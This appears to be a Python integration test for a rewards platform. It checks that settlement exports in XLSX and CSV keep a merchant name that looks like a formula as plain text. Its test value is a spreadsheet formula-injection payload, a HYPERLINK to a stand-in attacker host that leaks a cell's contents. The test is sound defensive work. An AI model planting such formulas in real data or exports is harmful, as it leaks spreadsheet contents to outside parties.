"""Settlement exports show a merchant's name as text even when it looks like a formula."""

from __future__ import annotations

import csv
import io
import uuid
import zipfile

import asyncpg
import httpx

from tests.conftest import World, idem
from tests.integration.rewards.helpers import give, qr, reward, staff

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'


async def test_a_formula_in_a_merchant_name_stays_text_in_xlsx_and_csv(
        http: httpx.AsyncClient, world: World, pool: asyncpg.Pool) -> None:
    admin = await world.admin()
    funder = await world.funder()
    r = await http.post("/admin/merchants", headers=admin, json={
        "name": f"{EVIL} {uuid.uuid4().hex[:4]}", "district_code": "3001", "lat": 14.97,
        "lon": 102.1, "category": "food", "thb_per_point": 10, "funder_id": funder})
    assert r.status_code == 201, r.text
    shop = int(r.json()["id"])
    mid, auth = await world.member()
    await give(pool, mid, funder, 50)
    rid = await reward(http, world, [shop], cost=20)
    coupon = (await http.post("/redemptions", headers=auth | idem(), json={"reward_id": rid})
              ).json()
    scan = await http.post("/merchant/scans", headers=await staff(world, shop) | idem(),
                           json={"member_token": qr(world, mid),
                                 "coupon_code": coupon["coupon_code"]})
    assert scan.status_code == 201, scan.text

    xlsx = await http.get("/admin/settlement/daily", headers=admin, params={"format": "xlsx"})
    assert xlsx.status_code == 200
    book = zipfile.ZipFile(io.BytesIO(xlsx.content))
    sheets = [n for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any(b"<f>" in book.read(n) for n in sheets)  # no formula cell
    assert b"=HYPERLINK" in book.read("xl/sharedStrings.xml")  # the name, as a string

    raw = await http.get("/admin/settlement/daily", headers=admin, params={"format": "csv"})
    rows = list(csv.DictReader(io.StringIO(raw.content.decode("utf-8-sig"))))
    names = [row["merchant_name"] for row in rows if row["merchant_id"] == str(shop)]
    assert names and all(n.startswith("'=HYPERLINK") for n in names), names
